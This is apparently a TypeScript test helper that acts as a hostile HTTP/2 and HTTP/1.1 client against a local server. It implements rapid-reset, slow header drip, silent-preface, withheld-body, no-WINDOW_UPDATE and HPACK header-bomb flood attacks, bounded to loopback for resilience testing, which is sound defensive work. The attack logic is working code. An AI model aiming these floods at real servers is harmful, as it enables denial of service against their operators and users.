// A hostile client, run as its own process so the test's health probes are not
// timed on the attacker's event loop. Loopback only, bounded in count and
// time, and it stops by itself. Usage: attacker.ts '<Attack as JSON>'.
// Prints one JSON line {"event":"ready"} once the attack is under way and one
// {"event":"done",...} with what it saw, then holds its connections until
// its stdin closes.
import http2 from "node:http2";
import net from "node:net";
import { ERROR, FLAG, FRAME, PREFACE, block, expandingBlock, frame, rstStream, settings, SETTINGS_ACK } from "../h2-frames.js";
import { readRequest, type PathName } from "./paths.js";

export type Attack =
  /** Streams opened (on `path`) and reset at once, over many connections, reconnecting when closed. */
  | { mode: "rapid-reset"; port: number; connections: number; streamsPerSecond: number; durationMs: number; path: PathName }
  /** Connections that send the HTTP/2 preface and SETTINGS, then nothing. */
  | { mode: "silent-preface"; port: number; connections: number; deadlineMs: number }
  /** HTTP/2 and HTTP/1.1 requests whose headers arrive one byte at a time. */
  | { mode: "header-drip"; port: number; connections: number; byteEveryMs: number; deadlineMs: number }
  /** Requests (on `path`) whose bodies never come: their headers, then nothing. */
  | { mode: "silent-request"; port: number; connections: number; path: PathName; sessionId: string; deadlineMs: number }
  /** Reads of a big map (on `path`) on streams that never send WINDOW_UPDATE. */
  | { mode: "no-window-update"; port: number; connections: number; streamsPerConnection: number; sessionId: string; path: PathName; deadlineMs: number }
  /** Header blocks of 4 KB that decode to about 400 KiB, as fast as the server takes them, with SETTINGS acknowledged or not. */
  | { mode: "header-flood"; port: number; connections: number; durationMs: number; acknowledge: boolean };

const attack = JSON.parse(process.argv[2]!) as Attack;
const HOST = "127.0.0.1";
const EMPTY_SETTINGS = settings();

const say = (line: object) => process.stdout.write(`${JSON.stringify(line)}\n`);
const noop = () => {};

/** How long each connection or stream lived, from its start to the server closing it. */
class Lifetimes {
  readonly closed: number[] = [];
  open = 0;
  start(): () => void {
    const started = Date.now();
    this.open++;
    let done = false;
    return () => {
      if (done) return;
      done = true;
      this.open--;
      this.closed.push(Date.now() - started);
    };
  }
  summary() {
    return { closed: this.closed.length, stillOpen: this.open, maxLifetimeMs: Math.max(0, ...this.closed) };
  }
}

/** A request's headers as an HPACK block (literals): what an attacker sends is not what a polite client library would. */
const requestBlock = (headers: http2.OutgoingHttpHeaders) =>
  block({ ":scheme": "http", ":authority": HOST, ...(headers as Record<string, string>) });
const CANCEL = ERROR.CANCEL;

/** Counts the GOAWAY frames a connection receives. */
function onGoaway(socket: net.Socket, seen: () => void) {
  let pending = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      if (pending[3] === FRAME.GOAWAY) seen();
      pending = pending.subarray(9 + length);
    }
  });
}

/**
 * `connections` raw HTTP/2 connections at once, each reconnecting when the server closes it,
 * until `more()` says stop: each connection sends the preface (and `settingsAck`), then `use(socket)`.
 */
async function reconnecting(a: { port: number; connections: number }, more: () => boolean, use: (socket: net.Socket) => Promise<void>, settingsAck = false) {
  let connections = 0;
  const slot = async () => {
    while (more()) {
      connections++;
      const socket = net.connect(a.port, HOST);
      socket.on("error", noop);
      const closed = new Promise<void>((resolve) => socket.once("close", resolve));
      await new Promise<void>((resolve) => socket.once("connect", resolve).once("close", resolve));
      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, ...(settingsAck ? [SETTINGS_ACK] : [])]));
      await use(socket);
      socket.destroy();
      await closed;
    }
  };
  const slots = Array.from({ length: a.connections }, slot);
  say({ event: "ready" });
  await Promise.all(slots);
  return connections;
}

/** Writes `bytes`, waiting for the socket to drain (or close) when it is full. */
const send = async (socket: net.Socket, bytes: Buffer) => {
  if (!socket.write(bytes)) await new Promise((r) => socket.once("drain", r).once("close", r));
};

async function rapidReset(a: Extract<Attack, { mode: "rapid-reset" }>) {
  const deadline = Date.now() + a.durationMs;
  const maxStreams = (a.streamsPerSecond * a.durationMs) / 1000;
  /** Each connection sends 50 streams per write; this pause between writes makes the rate. */
  const pause = (50 * a.connections * 1000) / a.streamsPerSecond;
  let streams = 0;
  let goaways = 0;
  const request = requestBlock(readRequest(a.path, "rapid-reset").headers);
  const sessions = await reconnecting(a, () => Date.now() < deadline && streams < maxStreams, async (socket) => {
    onGoaway(socket, () => goaways++);
    // Each stream: HEADERS (no END_STREAM) and at once RST_STREAM, 50 streams per write.
    for (let id = 1; !socket.destroyed && Date.now() < deadline && streams < maxStreams && id < 2 ** 31 - 100; ) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++, id += 2, streams++) batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, request), rstStream(id, CANCEL));
      await send(socket, Buffer.concat(batch));
      await new Promise((r) => setTimeout(r, pause));
    }
  });
  return { streams, sessions, goaways };
}

/** Opens `count` raw sockets in batches (the listen backlog is finite), calling `start` on each. */
async function openMany(port: number, count: number, start: (socket: net.Socket, closed: () => void) => void, lifetimes: Lifetimes) {
  let failed = 0;
  for (let i = 0; i < count; i += 200) {
    await Promise.all(
      Array.from({ length: Math.min(200, count - i) }, () =>
        new Promise<void>((resolve) => {
          // Hostile: it reads (so it sees the server's FIN) but never closes its own side.
          const socket = net.connect({ port, host: HOST, allowHalfOpen: true });
          socket.resume();
          socket.once("connect", () => {
            const closed = lifetimes.start();
            socket.once("end", closed);
            socket.once("close", closed);
            start(socket, closed);
            resolve();
          });
          socket.once("error", () => {
            if (!socket.connecting) return;
            failed++;
            resolve();
          });
          socket.on("error", noop);
        })),
    );
  }
  return failed;
}

async function untilClosed(lifetimes: Lifetimes, deadlineMs: number) {
  const deadline = Date.now() + deadlineMs;
  while (lifetimes.open > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
}

async function silentPreface(a: Extract<Attack, { mode: "silent-preface" }>) {
  const lifetimes = new Lifetimes();
  const sockets: net.Socket[] = [];
  const failed = await openMany(a.port, a.connections, (socket) => {
    sockets.push(socket);
    socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
  }, lifetimes);
  say({ event: "ready" });
  await untilClosed(lifetimes, a.deadlineMs);
  for (const s of sockets) s.destroy();
  return { connectFailed: failed, ...lifetimes.summary() };
}

async function headerDrip(a: Extract<Attack, { mode: "header-drip" }>) {
  const headers = frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(readRequest("grpc", "drip").headers));
  const h1 = Buffer.from(`POST /api/sessions HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: application/json\r\nX-Padding: ${"x".repeat(200)}\r\n\r\n`);
  const lifetimes = new Lifetimes();
  const timers: NodeJS.Timeout[] = [];
  const drip = (socket: net.Socket, bytes: Buffer) => {
    let at = 0;
    const timer = setInterval(() => (at < bytes.length && !socket.destroyed ? socket.write(bytes.subarray(at, ++at)) : clearInterval(timer)), a.byteEveryMs);
    timers.push(timer);
    socket.once("close", () => clearInterval(timer));
  };
  const half = Math.floor(a.connections / 2);
  const failed =
    (await openMany(a.port, half, (socket) => {
      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
      drip(socket, headers);
    }, lifetimes)) + (await openMany(a.port, a.connections - half, (socket) => drip(socket, h1), lifetimes));
  say({ event: "ready" });
  await untilClosed(lifetimes, a.deadlineMs);
  timers.forEach(clearInterval);
  return { connectFailed: failed, ...lifetimes.summary() };
}

async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) {
  const { headers, body } = readRequest(a.path, a.sessionId);
  const lifetimes = new Lifetimes();
  const resetByServer: number[] = [];
  const sessions: http2.ClientHttp2Session[] = [];
  for (let c = 0; c < a.connections; c++) {
    // The default 64 KiB windows; nothing here ever reads, so nothing ever widens them.
    const session = http2.connect(`http://${HOST}:${a.port}`);
    session.on("error", noop);
    sessions.push(session);
    for (let s = 0; s < a.streamsPerConnection; s++) {
      const stream = session.request(headers, { endStream: body === undefined });
      stream.on("error", noop);
      stream.once("response", () => {
        const closed = lifetimes.start();
        stream.once("close", () => {
          if (stream.rstCode) resetByServer.push(stream.rstCode);
          closed();
        });
      });
      if (body) stream.end(body);
    }
  }
  const deadline = Date.now() + a.deadlineMs;
  while (lifetimes.closed.length + lifetimes.open < a.connections * a.streamsPerConnection && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 20));
  }
  say({ event: "ready", answering: lifetimes.open });
  await untilClosed(lifetimes, Math.max(0, deadline - Date.now()));
  for (const s of sessions) s.destroy();
  return { resetByServer: resetByServer.length, ...lifetimes.summary() };
}

/** A request whose body the server waits for on `path` (REST's read takes none: a create does). */
function waitingRequest(path: PathName, sessionId: string): http2.OutgoingHttpHeaders {
  if (path === "rest") return { ":method": "POST", ":path": "/api/sessions", "content-type": "application/json" };
  return readRequest(path, sessionId).headers;
}

async function silentRequest(a: Extract<Attack, { mode: "silent-request" }>) {
  // Headers without END_STREAM, and never a byte of body: the stream (and so the connection) must be closed.
  const request = frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(waitingRequest(a.path, a.sessionId)));
  const lifetimes = new Lifetimes();
  const failed = await openMany(a.port, a.connections, (socket) => socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, SETTINGS_ACK, request])), lifetimes);
  say({ event: "ready" });
  await untilClosed(lifetimes, a.deadlineMs);
  return { connectFailed: failed, ...lifetimes.summary() };
}

async function headerFlood(a: Extract<Attack, { mode: "header-flood" }>) {
  const deadline = Date.now() + a.durationMs;
  const bomb = expandingBlock({ ":method": "GET", ":scheme": "http", ":authority": HOST, ":path": "/healthz" }, 4000, 100);
  let sent = 0;
  let answered = 0;
  const connections = await reconnecting(a, () => Date.now() < deadline, async (socket) => {
    // A 200 would come as a HEADERS frame whose first byte is 0x88 (:status 200, static table).
    let pending = Buffer.alloc(0);
    socket.on("data", (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
        if (pending[3] === FRAME.HEADERS && pending[9] === 0x88) answered++;
        pending = pending.subarray(9 + pending.readUIntBE(0, 3));
      }
    });
    for (let id = 1; !socket.destroyed && Date.now() < deadline && id < 2 ** 31 - 100; id += 2, sent++) {
      await send(socket, frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, bomb));
    }
  }, a.acknowledge);
  return { sent, answered, connections };
}

const run = {
  "rapid-reset": rapidReset,
  "silent-preface": silentPreface,
  "silent-request": silentRequest,
  "header-drip": headerDrip,
  "no-window-update": noWindowUpdate,
  "header-flood": headerFlood,
}[attack.mode] as (a: Attack) => Promise<object>;
const started = Date.now();
const result = await run(attack);
say({ event: "done", tookMs: Date.now() - started, ...result });
// Its connections stay as they are (half-closed ones too) until the test has looked at the server.
process.stdin.resume();
process.stdin.once("end", () => process.exit(0));
